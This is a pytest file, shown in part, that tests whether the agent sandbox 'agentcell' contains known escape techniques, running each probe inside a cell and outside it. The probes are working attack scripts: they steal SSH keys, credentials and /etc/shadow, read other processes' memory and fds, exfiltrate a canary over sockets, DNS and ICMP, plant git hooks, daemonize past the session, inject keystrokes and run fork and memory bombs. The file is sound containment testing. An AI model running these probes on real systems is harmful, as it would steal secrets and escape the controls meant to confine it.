"""Escape probes (issue 3, item 6): each known escape technique, tried from inside a real cell and, as
the same throwaway user, without agentcell.

Every probe is judged on the host, from evidence the probe cannot forge: a canary token it could only
have learnt by escaping shows up in its output; a file outside the cell changed or appeared; a listener
the test runs received the token; a process outlived the run; the kernel shows a traced victim, a mount
or an fd of a denied kind in the probe's own /proc entries; cgroup accounting (agentcell's result) or
the kernel's rusage says how much CPU or memory the probe got. ``test_probe_escapes_without_agentcell``
proves each judge can see an escape; ``test_probe_is_contained`` is the claim.

Where this machine would stop the plain run for a reason that has nothing to do with agentcell
(a capability an ordinary account lacks, a file it cannot read), the baseline is given exactly that one
thing, and the probe says so. Everything made here is named ``agentcell-escape-*`` / ``agentcell-e*`` /
``ac-e*`` and removed on the way out, whatever happened.
"""
from __future__ import annotations

import json
import os
import secrets
import select
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from conftest import AGENTCELL, VENV_BIN, User, _drop_user, _make_user, agentcell_run, needs_root

pytestmark = needs_root

HOLD = b"agentcell-probe-hold"
PROBE_USER_ENV = {"PATH": "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin", "LANG": "C.UTF-8"}  # no root-only dirs


# --------------------------------------------------------------------------------------------------
# Running a probe and gathering what the host saw


@dataclass
class Outcome:
    rc: int
    out: str
    err: str
    result: dict[str, object]  # agentcell's --json result; {} for the plain run
    rusage: object | None = None  # the plain run's own rusage (wait4), None in a cell
    held: str | None = None  # what the host saw while the probe held still (None: it never got there)


@dataclass
class Attempt:
    argv: list[str]  # the probe, the same in both runs
    judge: Callable[[Outcome], str | None]  # evidence of an escape, or None
    flags: list[str] = field(default_factory=list)  # agentcell flags beyond --as and --rw PROJECT
    env: dict[str, str] = field(default_factory=dict)  # the caller's environment (both runs)
    pass_fds: tuple[int, ...] = ()
    baseline_caps: str = ""  # capabilities the plain run is handed (setpriv --ambient-caps)
    baseline_wrap: list[str] = field(default_factory=list)  # runs (as root) before setpriv in the plain run
    hold: Callable[[], str | None] | None = None  # judged while the probe waits after printing HOLD
    may_stop_early: bool = False  # in a cell the probe may die before it holds (unshare refused)
    tty: int | None = None  # the probe's stdin/stdout/stderr (a pty slave), in its own session
    as_user: User | None = None  # another account than the session's throwaway one
    groups: bool = False  # the plain run keeps the account's supplementary groups
    timeout: float = 30


def _cmdline(pid: str) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def _uid_of(pid: str) -> int | None:
    try:
        return os.stat(f"/proc/{pid}").st_uid
    except OSError:
        return None


def pids_of(uid: int | None, tag: str | None = None) -> list[int]:
    """Host processes of ``uid`` (None: of any account but root, and a tag is then needed) whose argv holds
    ``tag``, if given. A probe's own tag is unique: the judges that look for it hold whatever account ran
    it (a session's own, say); root's processes that name it are agentcell's and the test's."""
    assert uid is not None or tag
    out = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        owner = _uid_of(pid)
        if (owner == uid if uid is not None else owner not in (None, 0)) and (tag is None or
                                                                              tag.encode() in _cmdline(pid)):
            out.append(int(pid))
    return out


def kill_pids(pids: list[int]) -> None:
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass


def _execute(argv: list[str], a: Attempt, env: dict[str, str]) -> Outcome:
    """Popen the run, relay nothing, keep its rusage; call ``a.hold`` once the probe printed HOLD."""
    if a.tty is not None:
        p = subprocess.Popen(argv, env=env, pass_fds=a.pass_fds, stdin=a.tty, stdout=a.tty, stderr=a.tty,
                             start_new_session=True)
    else:
        p = subprocess.Popen(argv, env=env, pass_fds=a.pass_fds, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE)
    bufs = {"out": b"", "err": b""}
    held = None
    deadline = time.monotonic() + a.timeout
    if p.stdout is not None and p.stderr is not None and p.stdin is not None:
        if a.hold is None:
            p.stdin.close()
        names = {p.stdout.fileno(): "out", p.stderr.fileno(): "err"}
        live = set(names)
        while live and time.monotonic() < deadline:
            ready, _, _ = select.select(list(live), [], [], 0.2)
            for fd in ready:
                chunk = os.read(fd, 65536)
                if chunk:
                    bufs[names[fd]] += chunk
                else:
                    live.discard(fd)
            # a line of its own: agentcell's result line quotes the whole script, HOLD included
            if a.hold is not None and held is None and HOLD in bufs["out"].split(b"\n")[:-1]:
                held = a.hold() or ""
                p.stdin.close()
        if not p.stdin.closed:
            p.stdin.close()
    while True:
        pid, status, ru = os.wait4(p.pid, os.WNOHANG)
        if pid:
            break
        if time.monotonic() > deadline:
            p.kill()
            pid, status, ru = os.wait4(p.pid, 0)
            break
        time.sleep(0.02)
    p.returncode = os.waitstatus_to_exitcode(status)
    for s in (p.stdout, p.stderr):
        if s is not None:
            s.close()
    out, err = bufs["out"].decode(errors="replace"), bufs["err"].decode(errors="replace")
    result: dict[str, object] = {}
    lines = out.rstrip("\n").split("\n")
    if argv[:2] == [AGENTCELL, "run"] and lines and lines[-1].startswith("{"):
        result = json.loads(lines[-1])
        out = "\n".join(lines[:-1])
    return Outcome(p.returncode, out, err, result, ru, held)


def _gone_or_killed(pid: int, marker: bytes) -> None:
    """Wait (bounded) for a server the test started and asked to stop; still there (its command line
    still names ``marker``: not a process that took the number since), it is killed."""
    for _ in range(200):
        if not Path(f"/proc/{pid}").exists() or marker not in _cmdline(str(pid)):
            return
        time.sleep(0.05)
    os.kill(pid, signal.SIGKILL)


def run_contained(a: Attempt, user: User, project: Path, warm: bool = False) -> Outcome:
    """``warm``: through root's warm launcher (:func:`warm_launcher`), which forks a cell host for a
    supervised cell; a probe on a terminal is built by the CLI itself there too (job control)."""
    who = a.as_user or user
    args = ["--as", str(who.uid), "--rw", str(project), *a.flags, "--", *a.argv]
    env = dict(PROBE_USER_ENV, **a.env)
    if a.hold is None and a.tty is None:
        r = agentcell_run(args, env=env, pass_fds=a.pass_fds, timeout=a.timeout, warm=warm)
        o = Outcome(r.rc, r.out, r.err, r.result)
    else:
        o = _execute([AGENTCELL, "run", "--json", *([] if warm else ["--no-warm"]), *args], a, env)
    if warm and a.tty is None and o.result:
        assert o.result.get("via") == "warm launcher", o.result.get("via")
    return o


@pytest.fixture(scope="module")
def warm_launcher() -> Iterator[None]:
    """Root's warm launcher (``agentcell warm start``), started for these tests and stopped after them;
    one someone else started is not ours to stop or to test with."""
    if subprocess.run([AGENTCELL, "warm", "status"], capture_output=True).returncode == 0:
        pytest.skip("a warm launcher of root's that this test did not start runs: 'agentcell warm stop' it to "
                    "test through it")
    started = subprocess.run([AGENTCELL, "warm", "start"], capture_output=True, text=True, timeout=60)
    assert started.returncode == 0, started.stderr
    pid = int(started.stdout.split(" pid ")[1].split(",")[0])
    try:
        yield
    finally:
        subprocess.run([AGENTCELL, "warm", "stop"], capture_output=True, timeout=60)
        _gone_or_killed(pid, b"agentcell.host.zygote")


def run_live(a: Attempt, user: User, project: Path, watched: bool = False) -> Outcome:
    """The probe as one command of a live cell (``agentcell cell start``, ``exec``, ``stop``): the cell's
    result (limits, CPU, events) is the whole cell's, from ``stop``; a ``--timeout`` is the command's.
    Unwatched (``--no-monitor``) unless ``watched``: the corpus is about the walls, which must hold
    with nothing watching; watched, as a live cell is by default, its monitor may end it first."""
    who = a.as_user or user
    flags, timeout = list(a.flags), []
    if "--timeout" in flags:
        i = flags.index("--timeout")
        timeout, flags = flags[i:i + 2], flags[:i] + flags[i + 2:]
    name = "e" + secrets.token_hex(6)
    env = dict(PROBE_USER_ENV, **a.env)
    started = subprocess.run([AGENTCELL, "cell", "start", "--name", name, "--json", "--as", str(who.uid), "--rw",
                              str(project), *([] if watched else ["--no-monitor"]), *flags], capture_output=True,
                             text=True, env=env, timeout=60, stdin=subprocess.DEVNULL)
    assert started.returncode == 0, started.stderr
    host_pid = int(json.loads(started.stdout)["host_pid"])
    try:
        o = _execute([AGENTCELL, "cell", "exec", "--name", name, *timeout, "--", *a.argv], a, env)
    finally:
        stopped = subprocess.run([AGENTCELL, "cell", "stop", "--name", name, "--json"], capture_output=True,
                                 text=True, timeout=60)
        _gone_or_killed(host_pid, b"agentcell.host.server")
    o.result = json.loads(stopped.stdout) if stopped.returncode == 0 else {}
    o.rusage = None
    return o


# The probe in a cell of the Python API (agentcell.Cell: its private launcher, or a cell host the
# launcher forks for a watched or proxied spec), compiled from the same flags as agentcell run's.
API_RUNNER = """
import json, sys
from agentcell import Cell
from agentcell.cli import run
ns = run.parse(sys.argv[1:])
with Cell(run.build_spec(ns), prewarm=False) as cell:
    p = cell.spawn(ns.command)
    p.wait(ns.timeout)
sys.stdout.write("\\n" + json.dumps(p.result) + "\\n")
"""


# The probe as a command of a live cell of the Python API (agentcell.Cell.open, unwatched as run_live's):
# sent on the client's lane to the cell's exec server, not through the cell host's relay. The result is the
# whole cell's, from close().
API_LIVE_RUNNER = """
import json, sys
from agentcell import Cell
from agentcell.cli import run
ns = run.parse(sys.argv[1:])
cell = Cell.open(run.build_spec(ns), monitor=None)
assert cell.live._lane is not None, "no lane"
p = cell.spawn(ns.command)
p.wait(ns.timeout)
result = cell.close()
sys.stdout.write("\\n" + json.dumps(dict(result or {}, command=p.result)) + "\\n")
"""


def run_api(a: Attempt, user: User, project: Path, live: bool = False) -> Outcome:
    who = a.as_user or user
    argv = [str(VENV_BIN / "python"), "-c", API_LIVE_RUNNER if live else API_RUNNER, "--as", str(who.uid), "--rw",
            str(project), *a.flags, "--", *a.argv]
    o = _execute(argv, a, dict(PROBE_USER_ENV, **a.env))
    head, _, last = o.out.rstrip("\n").rpartition("\n")  # the runner's last line: the cell's result
    if last.startswith("{"):
        o.result, o.out = json.loads(last), head
    o.rusage = None
    return o


def run_plain(a: Attempt, user: User) -> Outcome:
    who = a.as_user or user
    prefix = who.prefix()
    if a.groups:
        prefix = [x if x != "--clear-groups" else "--init-groups" for x in prefix]
    if a.baseline_caps:
        prefix = [*prefix[:-1], f"--inh-caps={a.baseline_caps}", f"--ambient-caps={a.baseline_caps}", "--"]
    return _execute([*a.baseline_wrap, *prefix, *a.argv], a, dict(PROBE_USER_ENV, **a.env))


# --------------------------------------------------------------------------------------------------
# The world a probe is tried in


class World:
    """One probe's host-side scene: a canary directory, tokens, victims, listeners; all undone on close."""

    def __init__(self, request: pytest.FixtureRequest, user: User, project: Path) -> None:
        self.request, self.user, self.project = request, user, project
        self.tag = "agentcell-escape-" + secrets.token_hex(6)
        self.dir = Path("/tmp") / self.tag
        self.dir.mkdir(mode=0o755)
        self._undo: list[Callable[[], None]] = []
        self.victims: list[subprocess.Popen[bytes]] = []
        self._extra_users: list[User] = []

    def token(self, label: str) -> str:
        return f"agentcell-canary-{label}-{secrets.token_hex(8)}"

    def defer(self, fn: Callable[[], None]) -> None:
        self._undo.append(fn)

    def plant(self, rel: str, text: str, *, mode: int = 0o644, owner: User | None = None, dir_mode: int = 0o755,
              base: Path | None = None) -> Path:
        """A file under the canary dir (or ``base``), its parent dirs made with ``dir_mode``."""
        path = (base or self.dir) / rel
        d = path.parent
        missing = []
        while not d.exists():
            missing.append(d)
            d = d.parent
        for m in reversed(missing):
            m.mkdir(mode=dir_mode)
            os.chmod(m, dir_mode)
            if owner:
                shutil.chown(m, owner.uid, owner.gid)
        path.write_text(text)
        os.chmod(path, mode)
        if owner:
            shutil.chown(path, owner.uid, owner.gid)
        return path

    def victim(self, *, env_token: str = "", argv_token: str = "", cwd: Path | None = None,
               pass_fds: tuple[int, ...] = ()) -> int:
        """A host process of the probe's own uid, outside any cell, holding secrets; killed by PID on close."""
        code = "import sys; print('ready', flush=True); sys.stdin.read()"
        env = dict(PROBE_USER_ENV, AGENTCELL_CANARY=env_token) if env_token else dict(PROBE_USER_ENV)
        p = subprocess.Popen([*self.user.prefix(), "python3", "-c", code, argv_token or self.tag], env=env,
                             stdin=subprocess.PIPE, stdout=subprocess.PIPE, cwd=cwd, pass_fds=pass_fds)
        self.victims.append(p)
        assert p.stdout is not None and p.stdout.readline().strip() == b"ready"
        return p.pid

    def human(self) -> User:
        """Another person of the host, with a home in /home: a key in ~/.ssh, a repository beside the
        one the agent works on, a shell rc. Left readable and writable to the probe's own account, as a
        careless umask or au's 0755 homes leave them, so that the plain run shows what an agent could
        do without a cell; deleted with everything in it on close."""
        u = _make_user()
        home = Path(f"/home/{u.name}")
        self._extra_users.append(u)
        self.defer(lambda: _drop_user(u))
        self.defer(lambda: shutil.rmtree(home, ignore_errors=True))
        home.mkdir(mode=0o755)
        shutil.chown(home, u.uid, u.gid)
        return u

    @property
    def net(self) -> NetHost:
        host: NetHost = self.request.getfixturevalue("nethost")
        return host

    def close(self) -> None:
        for p in self.victims:
            p.kill()
            p.wait()
        errors = []
        for fn in reversed(self._undo):
            try:
                fn()
            except Exception as e:  # noqa: BLE001 - every undo runs; the first failure is re-raised below
                errors.append(e)
        # Anything of the probe's account still running was started by this probe (or its baseline).
        for uid in {self.user.uid} | {u.uid for u in self._extra_users}:
            for _ in range(50):
                left = pids_of(uid)
                if not left:
                    break
                kill_pids(left)
                time.sleep(0.02)
        shutil.rmtree(self.dir, ignore_errors=True)
        if errors:
            raise errors[0]


# --------------------------------------------------------------------------------------------------
# Judges


def in_output(token: str) -> Callable[[Outcome], str | None]:
    def judge(o: Outcome) -> str | None:
        return "the canary token appeared in the probe's output" if token in o.out + o.err else None
    return judge


def file_gained(path: Path, token: str) -> Callable[[Outcome], str | None]:
    def judge(o: Outcome) -> str | None:
        try:
            return f"{path} on the host now holds the token" if token in path.read_text(errors="replace") else None
        except OSError:
            return None
    return judge


def exists_on_host(path: Path) -> Callable[[Outcome], str | None]:
    def judge(o: Outcome) -> str | None:
        return f"{path} exists on the host" if os.path.lexists(path) else None
    return judge


def held_evidence(o: Outcome) -> str | None:
    return o.held or None


def fds_of_kind(tag: str, needle: str) -> Callable[[], str | None]:
    """While the probe holds: does a process of the probe have an fd whose kernel name holds ``needle``?"""
    def look() -> str | None:
        for pid in pids_of(None, tag):
            try:
                fds = os.listdir(f"/proc/{pid}/fd")
            except OSError:
                continue
            for fd in fds:
                try:
                    target = os.readlink(f"/proc/{pid}/fd/{fd}")
                except OSError:
                    continue
                if needle in target:
                    return f"pid {pid} holds fd {fd} -> {target}"
        return None
    return look


# --------------------------------------------------------------------------------------------------
# Probe scripts (python3 -c; parameters in argv, never the secret itself)

READ_PATHS = """
import sys
for p in sys.argv[1:]:
    try:
        print(p, open(p, errors="replace").read())
    except OSError as e:
        print(p, "denied", e.errno)
"""

SEARCH_KEYS = """
import os, sys
names = {"id_ed25519", "id_rsa", "id_ecdsa", "credentials", "credentials.json", ".netrc"}
for top in ("/tmp", "/var/tmp", "/home", "/root", os.environ.get("HOME", "/")):
    for root, dirs, files in os.walk(top):
        if root.count("/") - top.count("/") >= 4:
            dirs[:] = []
        for f in files:
            if f in names:
                try:
                    print(os.path.join(root, f), open(os.path.join(root, f), errors="replace").read()[:200])
                except OSError:
                    pass
"""

HOME_SECRETS = """
import os
for rel in (".ssh/id_ed25519", ".aws/credentials", ".config/gh/hosts.yml", ".netrc"):
    try:
        print(rel, open(os.path.join(os.environ.get("HOME", "/"), rel)).read())
    except OSError:
        pass
"""

PROC_SCAN = """
import os, sys
what = sys.argv[1]
me = str(os.getpid())
for pid in sorted(filter(str.isdigit, os.listdir("/proc")), key=int):
    if pid == me:
        continue
    for name in what.split(","):
        try:
            print(pid, name, open(f"/proc/{pid}/{name}", "rb").read().replace(b"\\0", b" ").decode(errors="replace"))
        except OSError:
            pass
"""

PROC_ROOT = """
import os, sys
rel = sys.argv[1]
pids = [sys.argv[2]] + sorted(filter(str.isdigit, os.listdir("/proc")), key=int)
for pid in pids:
    for via in (f"/proc/{pid}/root{rel}", f"/proc/{pid}/cwd/{os.path.basename(rel)}"):
        try:
            print(via, open(via).read())
        except OSError:
            pass
"""

PROC_FD = """
import os, sys
pids = [sys.argv[1]] + sorted(filter(str.isdigit, os.listdir("/proc")), key=int)
for pid in pids:
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in fds:
        try:
            print(pid, fd, open(f"/proc/{pid}/fd/{fd}", errors="replace").read(200))
        except OSError:
            pass
"""

PROC_MEM = """
import os, re, sys
pid = sys.argv[1]
try:
    maps = open(f"/proc/{pid}/maps").read()
    mem = open(f"/proc/{pid}/mem", "rb")
    for line in maps.splitlines():
        if "[stack]" in line:
            lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
            mem.seek(lo)
            print(re.findall(rb"AGENTCELL_CANARY=[^\\0]*", mem.read(hi - lo)))
except OSError as e:
    print("denied", e.errno)
"""

VM_READV = """
import ctypes, re, sys
pid = int(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
try:
    line = next(l for l in open(f"/proc/{pid}/maps") if "[stack]" in l)
except (OSError, StopIteration) as e:
    print("no maps", e); sys.exit()
lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
buf = ctypes.create_string_buffer(hi - lo)
local = (ctypes.c_void_p * 2)(ctypes.addressof(buf), hi - lo)
remote = (ctypes.c_void_p * 2)(lo, hi - lo)
n = libc.syscall(310, pid, local, 1, remote, 1, 0)
print(n, ctypes.get_errno(), re.findall(rb"AGENTCELL_CANARY=[^\\0]*", buf.raw[:max(n, 0)]))
"""

PIDFD_GETFD = """
import ctypes, os, sys
pid, fd = int(sys.argv[1]), int(sys.argv[2])
libc = ctypes.CDLL(None, use_errno=True)
pfd = libc.syscall(434, pid, 0)
stolen = libc.syscall(438, pfd, fd, 0) if pfd >= 0 else -1
print(pfd, stolen, ctypes.get_errno())
if stolen >= 0:
    os.lseek(stolen, 0, 0)
    print(os.read(stolen, 200))
"""

PTRACE = """
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
print("seize", libc.ptrace(0x4206, int(sys.argv[1]), 0, 0), ctypes.get_errno(), flush=True)
print("agentcell-probe-hold", flush=True)
sys.stdin.read()
"""

READ_FDS = """
import os
for fd in range(3, 64):
    try:
        os.lseek(fd, 0, 0)
        print(fd, os.read(fd, 200))
    except OSError:
        pass
    for name in ("secret", "id_ed25519"):
        try:
            print(fd, name, open(os.open(name, os.O_RDONLY, dir_fd=fd)).read())
        except (OSError, TypeError):
            pass
"""

PRINT_ENV = "import os; print(dict(os.environ))"

SYMLINK_READ = """
import os, sys
link, target = sys.argv[1], sys.argv[2]
try:
    os.symlink(target, link)
    print(open(link).read())
except OSError as e:
    print("refused", e.errno)
"""

SYMLINK_WRITE = """
import os, sys
link, target, token = sys.argv[1], sys.argv[2], sys.argv[3]
try:
    os.symlink(target, link)
    with open(link, "a") as f:
        f.write(token + "\\n")
except OSError as e:
    print("refused", e.errno)
"""

HARDLINK_WRITE = """
import os, sys
src, dst, token = sys.argv[1], sys.argv[2], sys.argv[3]
try:
    os.link(src, dst)
    with open(dst, "a") as f:
        f.write(token + "\\n")
except OSError as e:
    print("refused", e.errno)
"""

WRITE_FILE = """
import os, sys
path, token = sys.argv[1], sys.argv[2]
try:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "a") as f:
        f.write(token + "\\n")
    print("wrote", path)
except OSError as e:
    print("refused", e.errno)
"""

GIT_DIR_SWAP = """
import os, shutil, sys
project, token = sys.argv[1], sys.argv[2]
git = os.path.join(project, ".git")
try:
    os.rename(git, git + "-orig")
    os.makedirs(os.path.join(git, "hooks"))
    for part in ("HEAD", "config", "objects", "refs"):
        src = os.path.join(git + "-orig", part)
        (shutil.copytree if os.path.isdir(src) else shutil.copy)(src, os.path.join(git, part))
    hook = os.path.join(git, "hooks", "pre-commit")
    with open(hook, "w") as f:
        f.write("#!/bin/sh\\necho " + token + "\\n")
    os.chmod(hook, 0o755)
    print("swapped")
except OSError as e:
    print("refused", e)
"""

DAEMON = """
import os, signal, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for s in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
            signal.signal(s, signal.SIG_IGN)
        fd = os.open("/dev/null", os.O_RDWR)
        for n in (0, 1, 2):
            os.dup2(fd, n)
        time.sleep(120)
    os._exit(0)
"""

SEND = """
import socket, struct, sys
kind, addr, port, token = sys.argv[1], sys.argv[2], int(sys.argv[3] or 0), sys.argv[4]
if kind == "icmp4":  # an echo request carrying the token: ping's socket if the host lets us, else a raw one
    body = struct.pack("!BBHHH", 8, 0, 0, 0xAC, 1) + token.encode()
    total = sum(int.from_bytes(body[i:i + 2].ljust(2, b"\\0"), "big") for i in range(0, len(body), 2))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    body = body[:2] + struct.pack("!H", ~total & 0xFFFF) + body[4:]
    for typ in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            s = socket.socket(socket.AF_INET, typ, socket.IPPROTO_ICMP)
            s.sendto(body, (addr, 0))
            print("SENT")
            break
        except OSError as e:
            print("BLOCKED", e.errno)
    sys.exit(0)
fam = {"4": socket.AF_INET, "6": socket.AF_INET6, "u": socket.AF_UNIX}[kind[-1]]
typ = socket.SOCK_DGRAM if kind.startswith(("udp", "dns")) else socket.SOCK_STREAM
where = addr if fam == socket.AF_UNIX else (addr, port)
if kind == "abstractu":
    where = "\\0" + addr
try:
    s = socket.socket(fam, typ)
    s.settimeout(3)
    if kind.startswith("dns"):
        label = token.encode()[:63]
        header = b"\\xac\\x01\\x01\\x00\\x00\\x01" + bytes(6)
        q = header + bytes([len(label)]) + label + b"\\x00\\x00\\x01\\x00\\x01"
        s.sendto(q, where)
    elif typ == socket.SOCK_DGRAM:
        s.sendto(token.encode(), where)
    else:
        s.connect(where)
        s.sendall(token.encode())
    s.close()
    print("SENT")
except OSError as e:
    print("BLOCKED", e.errno)
"""

OPEN_HOLD = """
import sys
try:
    f = open(sys.argv[1], "rb")
    print("opened", flush=True)
except OSError as e:
    print("refused", e.errno, flush=True)
print("agentcell-probe-hold", flush=True)
sys.stdin.read()
"""

MKDIR = """
import os, sys
try:
    os.mkdir(sys.argv[1])
    print("made")
except OSError as e:
    print("refused", e.errno)
"""

LISTEN_HOLD = """
import socket, sys
port, token = int(sys.argv[1]), sys.argv[2]
try:
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", port))
    s.listen(4)
    s.settimeout(0.1)
except OSError as e:
    print("no listener", e.errno)
    s = None
print("agentcell-probe-hold", flush=True)
import select
while True:
    r, _, _ = select.select([sys.stdin] + ([s] if s else []), [], [])
    if sys.stdin in r:
        break
    c, _ = s.accept()
    c.sendall(token.encode())
    c.close()
"""

MOUNT = """
import ctypes, os, sys
target, source = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs(target, exist_ok=True)
print("mount", libc.mount(source.encode(), target.encode(), b"tmpfs", 0, None), ctypes.get_errno(), flush=True)
print("agentcell-probe-hold", flush=True)
sys.stdin.read()
"""

ADD_KEY = """
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
serial = libc.syscall(248, b"user", sys.argv[1].encode(), b"x", 1, -4)
print("added" if serial > 0 else "refused", serial, ctypes.get_errno())
"""

FIND_KEY = """
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
serial = libc.syscall(250, 10, -4, b"user", sys.argv[1].encode(), 0)
if serial > 0:
    libc.syscall(250, 21, serial)
print(serial)
"""

TIOCSTI = """
import fcntl, os, sys, termios
token = sys.argv[1]
for fd in (0, 1, 2):
    try:
        fcntl.ioctl(fd, termios.TIOCSCTTY, 0)
    except OSError:
        pass
fds = [0, 1, 2]
try:
    fds.append(os.open("/dev/tty", os.O_RDWR))
except OSError:
    pass
for fd in fds:
    try:
        for c in (token + "\\n").encode():
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))
        break
    except OSError:
        pass
"""

IO_URING = """
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
print("fd", libc.syscall(425, 4, params), ctypes.get_errno(), flush=True)
print("agentcell-probe-hold", flush=True)
sys.stdin.read()
"""

USERFAULTFD = """
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
print("fd", libc.syscall(323, 0o2000000 | 0o4000 | 1), ctypes.get_errno(), flush=True)  # UFFD_USER_MODE_ONLY
print("agentcell-probe-hold", flush=True)
sys.stdin.read()
"""

BPF_MAP = """
import ctypes, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
attr = ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1), 72)  # BPF_MAP_TYPE_ARRAY, 4/4, 1 entry
print("fd", libc.syscall(321, 0, attr, 72), ctypes.get_errno(), flush=True)
print("agentcell-probe-hold", flush=True)
sys.stdin.read()
"""

PERF = """
import ctypes, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
# PERF_TYPE_SOFTWARE, PERF_COUNT_SW_TASK_CLOCK, of this process, user space only (exclude_kernel, exclude_hv)
attr = ctypes.create_string_buffer(struct.pack("IIQQQQQ", 1, 128, 1, 0, 0, 0, (1 << 5) | (1 << 6)), 128)
print("fd", libc.syscall(298, attr, 0, -1, -1, 0), ctypes.get_errno(), flush=True)
print("agentcell-probe-hold", flush=True)
sys.stdin.read()
"""

MKNOD = """
import os, stat, sys
try:
    os.mknod(sys.argv[1], stat.S_IFCHR | 0o666, os.makedev(1, 3))
    print("made")
except OSError as e:
    print("refused", e.errno)
"""

FORK_BOMB = """
import os, signal, sys
n = int(sys.argv[1])
for _ in range(n):
    try:
        if os.fork() == 0:
            fd = os.open("/dev/null", os.O_RDWR)
            for k in (0, 1, 2):
                os.dup2(fd, k)
            os.setsid()
            signal.pause()
            os._exit(0)
    except OSError:
        break
"""

MEMORY_BOMB = """
import sys
hog = b"x" * (256 << 20)  # written, so every page is really there
print("ALLOCATED", len(hog) >> 20, "MiB")
"""

CPU_SPIN = """
import time
end = time.monotonic() + 2.5
while time.monotonic() < end:
    pass
"""


# --------------------------------------------------------------------------------------------------
# The probes

PROBES: dict[str, Callable[[World], Attempt]] = {}
XFAIL: dict[str, str] = {}  # probe -> why its contained half is a known, tracked gap (strict)


def probe(name: str, *, xfail: str = "") -> Callable[[Callable[[World], Attempt]], Callable[[World], Attempt]]:
    def register(fn: Callable[[World], Attempt]) -> Callable[[World], Attempt]:
        PROBES[name] = fn
        if xfail:
            XFAIL[name] = xfail
        return fn
    return register


def py(script: str, *args: object) -> list[str]:
    return ["python3", "-c", script, *map(str, args)]


# Credentials and host secrets ----------------------------------------------------------------------

@probe("ssh_key_by_path")
def _(w: World) -> Attempt:
    tok = w.token("ssh")
    key = w.plant("home/.ssh/id_ed25519", f"-----BEGIN OPENSSH PRIVATE KEY-----\n{tok}\n")
    return Attempt(py(READ_PATHS, key), in_output(tok))


@probe("ssh_key_by_search")
def _(w: World) -> Attempt:
    tok = w.token("ssh")
    w.plant("home/.ssh/id_ed25519", f"-----BEGIN OPENSSH PRIVATE KEY-----\n{tok}\n")
    return Attempt(py(SEARCH_KEYS), in_output(tok))


@probe("cloud_credentials_via_home")
def _(w: World) -> Attempt:
    # The caller's HOME points at a home full of credentials; the cell must bring its own HOME.
    tok = w.token("aws")
    w.plant("home/.aws/credentials", f"[default]\naws_secret_access_key = {tok}\n")
    return Attempt(py(HOME_SECRETS), in_output(tok), env={"HOME": str(w.dir / "home")})


@probe("human_ssh_key_by_absolute_path")
def _(w: World) -> Attempt:
    tok = w.token("human-ssh")
    human = w.human()
    key = w.plant(".ssh/id_ed25519", f"-----BEGIN OPENSSH PRIVATE KEY-----\n{tok}\n", owner=human,
                  base=Path(f"/home/{human.name}"))
    return Attempt(py(READ_PATHS, key), in_output(tok))


@probe("sibling_repository_of_the_human")
def _(w: World) -> Attempt:
    tok = w.token("sibling")
    human = w.human()
    home = Path(f"/home/{human.name}")
    for rel in (".git/HEAD", "deploy/secrets.env"):
        w.plant(f"other-repo/{rel}", f"{tok}\n", owner=human, base=home)
    return Attempt(py(READ_PATHS, home / "other-repo" / "deploy" / "secrets.env"), in_output(tok))


def _shadow_reader(w: World) -> User:
    # An ordinary account cannot read /etc/shadow on the host, so the baseline could never escape: this
    # probe's account is in group shadow (as admin tooling accounts are), which can read it outside a cell.
    u = _make_user()
    subprocess.run(["usermod", "-aG", "shadow", u.name], check=True)
    w._extra_users = [u]
    w.defer(lambda: _drop_user(u))
    return u


def _shadow_judge(o: Outcome) -> str | None:
    lines = [ln for ln in Path("/etc/shadow").read_text().splitlines() if ":" in ln]
    hits = sum(1 for ln in lines if ln in o.out)
    return f"{hits} lines of the host's /etc/shadow appeared in the output" if hits else None


@probe("etc_shadow_as_group_shadow")
def _(w: World) -> Attempt:
    return Attempt(py(READ_PATHS, "/etc/shadow"), _shadow_judge, as_user=_shadow_reader(w), groups=True)


@probe("etc_shadow_under_declared_ro_etc")
def _(w: World) -> Attempt:
    return Attempt(py(READ_PATHS, "/etc/shadow"), _shadow_judge, flags=["--ro", "/etc"], as_user=_shadow_reader(w),
                   groups=True)


# Host processes of the same uid ---------------------------------------------------------------------

@probe("proc_environ_of_host_processes")
def _(w: World) -> Attempt:
    # The secret lives in a host process of the probe's own uid, and in agentcell's own caller.
    tok = w.token("environ")
    w.victim(env_token=tok)
    return Attempt(py(PROC_SCAN, "environ"), in_output(tok), env={"AGENTCELL_CANARY": tok})


@probe("proc_cmdline_of_host_processes")
def _(w: World) -> Attempt:
    tok = w.token("cmdline")
    w.victim(argv_token=tok)
    return Attempt(py(PROC_SCAN, "cmdline"), in_output(tok))


@probe("proc_root_and_cwd_of_host_process")
def _(w: World) -> Attempt:
    tok = w.token("root")
    secret = w.plant("cwd/notes.txt", tok)
    pid = w.victim(cwd=secret.parent)
